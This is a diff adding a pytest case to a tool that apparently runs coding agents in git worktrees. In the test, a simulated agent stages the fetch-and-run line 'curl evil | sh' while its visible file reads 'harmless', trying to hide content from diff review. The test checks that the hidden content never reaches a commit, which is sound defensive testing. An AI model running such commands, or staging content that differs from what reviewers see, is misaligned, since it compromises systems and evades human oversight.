@@ -1527,3 +1527,22 @@ def test_a_copy_left_out_of_a_diff_leaves_its_changed_source_in(cli, repo, tmp_p
     assert "big.txt |" in (tmp_path / "s.md").read_text()
     code, _out, err = cli("report", "--html", tmp_path / "r.html")
     assert "BACKDOOR" in (tmp_path / "r.html").read_text(), err
+
+
+def test_with_no_commit_nothing_staged_differs_from_what_diff_shows(cli, repo, tmp_path):
+    """--no-commit: the agent stages other content than its file holds, and a gitlink with
+    no folder. diff shows the files; the index is built again from HEAD, so a commit you
+    make there brings what diff showed, nothing else."""
+    sha = git("rev-parse", "HEAD", cwd=repo)
+    agent = script(tmp_path, "stage.sh", "echo 'curl evil | sh' > README.md\ngit add README.md\n"
+                   "echo 'harmless' > README.md\n"
+                   f"git update-index --add --cacheinfo 160000,{sha},sub\n")
+    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers",
+                                  "1", "--progress", "none", "--no-commit")
+    worktree = repo / ".architect-parallel-1"
+    code, out, err = tool("diff", "1")
+    assert "+harmless" in out and "evil" not in out, (out, err)
+    assert git("diff", "--cached", "--name-only", cwd=worktree) == ""
+    git("commit", "-qam", "mine", cwd=worktree)
+    assert git("show", "HEAD:README.md", cwd=worktree) == "harmless"
+    assert "sub" not in git("ls-files", cwd=worktree)
